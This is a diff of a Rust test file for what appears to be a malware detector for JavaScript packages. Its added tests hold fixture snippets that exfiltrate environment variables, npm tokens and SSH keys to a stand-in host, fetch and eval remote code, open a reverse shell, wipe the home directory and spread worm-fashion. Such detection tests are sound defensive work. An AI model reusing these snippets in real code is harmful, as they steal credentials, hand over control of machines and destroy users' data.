@@ -7,15 +7,7 @@ fn calls_in(path: &str, code: &str) -> Vec<String> {
     let parsed = parse(path, code);
     assert!(matches!(parsed.treatment, Treatment::Parsed(_)), "{code}: {:?}", parsed.facts);
     let calls = parsed.facts.iter().filter(|fact| fact.kind == FactKind::Call);
-    calls
-        .map(|fact| {
-            if fact.value.is_empty() {
-                fact.name.clone()
-            } else {
-                format!("{}({})", fact.name, fact.value.replace('\u{1f}', ", "))
-            }
-        })
-        .collect()
+    calls.map(|fact| if fact.value.is_empty() { fact.name.clone() } else { format!("{}({})", fact.name, fact.value.replace('\u{1f}', ", ")) }).collect()
 }
 
 fn calls(code: &str) -> Vec<String> {
@@ -50,10 +42,7 @@ fn names_are_found_behind_every_trick() {
         ("var cp; cp = require('child_process'); cp.exec('ls')", exec),
         ("const f = require('child_process')['ex'+'ec']; f('ls')", exec),
         ("const { exec: run } = require('child_process'); run('ls')", exec),
-        (
-            "const { ['ex' + 'ec']: run } = require('child_process'); require('child_process').exec('ls')",
-            exec,
-        ),
+        ("const { ['ex' + 'ec']: run } = require('child_process'); require('child_process').exec('ls')", exec),
         ("import { exec as run } from 'child_process'; run('ls')", exec),
         ("import * as cp from 'node:child_process'; cp.exec('ls')", exec),
         ("import cp from 'child_process'; cp.exec('ls')", exec),
@@ -64,10 +53,7 @@ fn names_are_found_behind_every_trick() {
         ("require.main.require('child_process').exec('ls')", exec),
         ("globalThis.require('child_process').exec('ls')", exec),
         ("global['req' + 'uire']('child_process').exec('ls')", exec),
-        (
-            "import { createRequire } from 'module'; const r = createRequire(import.meta.url); r('child_process').exec('ls')",
-            exec,
-        ),
+        ("import { createRequire } from 'module'; const r = createRequire(import.meta.url); r('child_process').exec('ls')", exec),
         ("const r = require; r('child_process').exec('ls')", exec),
         ("(0, require('child_process').exec)('ls')", exec),
         ("require('child_process').exec.call(null, 'ls')", exec),
@@ -81,10 +67,7 @@ fn names_are_found_behind_every_trick() {
         ("class A { cp = require('child_process'); go() { this.cp.exec('ls') } }", exec),
         ("function A() { this.cp = require('child_process'); this.cp.exec('ls') }", exec),
         ("const get = () => require('child_process'); get().exec('ls')", exec),
-        (
-            "const dec = s => Buffer.from(s, 'base64').toString(); require(dec('Y2hpbGRfcHJvY2Vzcw==')).exec('ls')",
-            exec,
-        ),
+        ("const dec = s => Buffer.from(s, 'base64').toString(); require(dec('Y2hpbGRfcHJvY2Vzcw==')).exec('ls')", exec),
         ("const names = ['fs', 'child_process']; require(names[1]).exec('ls')", exec),
         ("const o = { m: 'child_process' }; require(o.m).exec('ls')", exec),
         ("const o = {}; o.cp = require('child_process'); o.cp.exec('ls')", exec),
@@ -149,15 +132,13 @@ fn what_only_looks_like_a_use_gives_nothing() {
 
 #[test]
 fn types_import_nothing() {
-    let parsed =
-        parse("a.ts", "import type { A } from 'child_process'; import { type B } from 'net'; let a: A");
+    let parsed = parse("a.ts", "import type { A } from 'child_process'; import { type B } from 'net'; let a: A");
     assert_eq!(parsed.facts, []);
 }
 
 #[test]
 fn imports_are_resolved_against_the_folder() {
-    let parsed =
-        parse("lib/a.js", "require('./b'); import('../c.js'); require('left-pad'); export * from '../../d'");
+    let parsed = parse("lib/a.js", "require('./b'); import('../c.js'); require('left-pad'); export * from '../../d'");
     let names: Vec<_> = parsed.facts.iter().map(|fact| fact.name.as_str()).collect();
     assert_eq!(names, ["./lib/b", "./c.js", "left-pad", "./../d"]);
     assert_eq!(parsed.local, ["../d", "c.js", "lib/b"]);
@@ -176,8 +157,7 @@ fn what_runs_on_loading_is_told_from_what_waits() {
 
 #[test]
 fn strings_that_matter_are_reported_folded() {
-    let code =
-        "const a = 'https://' + 'x.invalid' + '/p'; const p = path.join(os.homedir(), '.ssh', 'id_rsa');
+    let code = "const a = 'https://' + 'x.invalid' + '/p'; const p = path.join(os.homedir(), '.ssh', 'id_rsa');
         const path = require('path'), os = require('os'); exec2('hello')";
     let literals = of(FactKind::Literal, code);
     assert_eq!(
@@ -199,8 +179,7 @@ fn layers_of_encoding_are_taken_off() {
 
 #[test]
 fn lines_and_exports_are_counted() {
-    let parsed =
-        parse("a.js", "// a\n\n/* b\n c */ var x;\nexports.a = 1; /* d */\nmodule.exports = { b, c }\n");
+    let parsed = parse("a.js", "// a\n\n/* b\n c */ var x;\nexports.a = 1; /* d */\nmodule.exports = { b, c }\n");
     assert_eq!((parsed.code_lines, parsed.exports), (3, 3));
 }
 
@@ -219,10 +198,117 @@ fn a_file_that_does_not_parse_is_text_and_says_so() {
         ("a.d.ts", "declare const a: string;"),
         ("a.tsx", "const a = <A<string> b />"),
     ] {
-        assert!(
-            matches!(parse(path, code).treatment, Treatment::Parsed(_)),
-            "{code}: {:?}",
-            parse(path, code).facts
-        );
+        assert!(matches!(parse(path, code).treatment, Treatment::Parsed(_)), "{code}: {:?}", parse(path, code).facts);
+    }
+}
+
+fn flows(code: &str) -> Vec<String> {
+    of(FactKind::Flow, code).into_iter().map(|(name, _)| name).collect()
+}
+
+#[test]
+fn what_flows_is_followed() {
+    let cases: &[(&str, &[&str])] = &[
+        ("fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })", &["env-all->net"]),
+        ("const e = process.env; const b = JSON.stringify({ e }); fetch('https://a.invalid?' + b)", &["env-all->net"]),
+        ("const { NPM_TOKEN } = process.env; fetch('https://a.invalid/' + NPM_TOKEN)", &["env-secret->net"]),
+        ("fetch(process.env.NODE_ENV)", &["env->net"]),
+        (
+            "const https = require('https'), os = require('os'); const r = https.request({ host: 'a.invalid' }); r.write(os.hostname()); r.end()",
+            &["host->net"],
+        ),
+        (
+            "const fs = require('fs'), os = require('os'), path = require('path');
+             const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); fetch('https://a.invalid', { body: key })",
+            &["secret-file->net"],
+        ),
+        ("fetch('https://a.invalid').then(r => r.text()).then(t => eval(t))", &["net->dynamic-code"]),
+        ("const r = await fetch('https://a.invalid'); const t = await r.text(); new Function(t)()", &["net->dynamic-code"]),
+        (
+            "require('https').get('https://a.invalid', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)) })",
+            &["net->dynamic-code"],
+        ),
+        ("eval(Buffer.from(x, 'base64').toString())", &["decoded->dynamic-code"]),
+        ("eval(atob(x))", &["decoded->dynamic-code"]),
+        ("const cp = require('child_process'); fetch('https://a.invalid').then(async r => cp.exec(await r.text()))", &["net->process"]),
+        ("require('https').get('https://a.invalid', r => r.pipe(require('fs').createWriteStream('x')))", &["net->fs-write"]),
+        ("function send(d) { fetch('https://a.invalid', { body: d }) } send(JSON.stringify(process.env))", &["env-all->net"]),
+        ("function get() { return process.env } fetch('https://a.invalid', { body: get() })", &["env-all->net"]),
+        ("require('fs').readFile('/root/.npmrc', (e, d) => fetch('https://a.invalid', { body: d }))", &["secret-file->net"]),
+        ("require('dns').lookup(require('os').hostname() + '.a.invalid')", &["host->dns"]),
+        ("const out = []; out.push(process.env); fetch('https://a.invalid', { body: out })", &["env-all->net"]),
+    ];
+    for (code, expected) in cases {
+        let found = flows(code);
+        assert!(expected.iter().all(|flow| found.iter().any(|f| f == flow)), "{code}\n  gives {found:?}");
+    }
+}
+
+#[test]
+fn what_does_not_flow_is_not_reported() {
+    for code in [
+        "require('child_process').spawn('ls', [], { env: process.env })",
+        "require('child_process').spawn('ls', { env: { ...process.env } })",
+        "const o = { env: process.env, url: 'https://a.invalid' }; fetch(o.url)",
+        "const e = process.env; fetch('https://a.invalid')",
+        "const cfg = load(process.env); fetch(cfg.url)",
+        "fetch('https://a.invalid').then(r => r.json())",
+        "if (process.env.CI) fetch('https://a.invalid')",
+        "eval('1 + 1')",
+    ] {
+        assert_eq!(flows(code), Vec::<String>::new(), "{code}");
+    }
+}
+
+fn shapes(code: &str) -> Vec<String> {
+    let parsed = parse("a.js", code);
+    let facts = parsed.facts.into_iter().filter(|f| matches!(f.kind, FactKind::Shape | FactKind::Guard));
+    facts.map(|fact| fact.name).collect()
+}
+
+#[test]
+fn shapes_and_guards_are_seen() {
+    let cases: &[(&str, &str)] = &[
+        ("if (Date.now() > 1800000000000) { fetch('https://a.invalid') }", "time-bomb"),
+        ("const now = new Date(); if (now.getTime() >= new Date('2027-01-01').getTime()) require('child_process').exec('ls')", "time-bomb"),
+        ("function f() { if (new Date() < new Date(2027, 1, 1)) return; fetch('https://a.invalid') }", "time-bomb"),
+        ("new Date().getFullYear() >= 2027 && eval(x)", "time-bomb"),
+        ("if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Minsk') require('fs').writeFileSync(x, '')", "geo"),
+        ("if (d.country_name.toLowerCase().includes('russia')) require('fs').writeFileSync(x, '')", "geo"),
+        ("if (require('os').hostname() !== 'DESKTOP-1') require('child_process').exec('ls')", "host"),
+        ("const f = window.fetch; window.fetch = function (a) { return f(a) }", "prototype-hook"),
+        ("window.ethereum.request = async a => g(a)", "wallet-hook"),
+        ("const r = /0x[a-fA-F0-9]{40}/g; globalThis.fetch = async (...a) => g(a)", "wallet-hook"),
+        (
+            "const n = require('net'), c = require('child_process'); const s = n.connect(1, 'a.invalid'); const p = c.spawn('/bin/sh', []); s.pipe(p.stdin)",
+            "reverse-shell",
+        ),
+        ("require('fs').rmSync(require('os').homedir(), { recursive: true })", "destructive-walk"),
+        ("require('child_process').execSync('npm publish'); f(process.env.NPM_TOKEN); require('fs').writeFileSync('package.json', x)", "worm"),
+        ("require('fs').writeFileSync('.github/workflows/x.yml', y)", "worm"),
+        ("eval(function(p,a,c,k,e,d){return p}('x',1,1,''.split('|'),0,{}))", "packed-eval"),
+    ];
+    for (code, expected) in cases {
+        assert!(shapes(code).iter().any(|name| name == expected), "{code}\n  gives {:?}", shapes(code));
+    }
+    let names: String = (0x1000..0x1020).map(|n| format!("var _0x{n:x}=1;")).collect();
+    assert_eq!(shapes(&names), ["obfuscator-array"]);
+}
+
+#[test]
+fn honest_conditions_and_assignments_are_no_shapes() {
+    for code in [
+        "if (Date.now() - start > 5000) fetch('https://a.invalid')",
+        "if (Date.now() > expires) fetch('https://a.invalid')",
+        "if (new Date() > new Date('2027-01-01')) console.log('happy new year')",
+        "if (user.country === 'DE') fetch('https://a.invalid')",
+        "globalThis.fetch = globalThis.fetch || require('node-fetch')",
+        "exports.fetch = function () {}",
+        "require('child_process').spawn('sh', ['-c', 'ls']); require('net').connect(1).pipe(x)",
+        "require('fs').rmSync(path.join(require('os').homedir(), '.cache', 'x'))",
+        "require('child_process').exec('npm install')",
+        "var _0x1234 = 1",
+    ] {
+        assert_eq!(shapes(code), Vec::<String>::new(), "{code}");
     }
 }
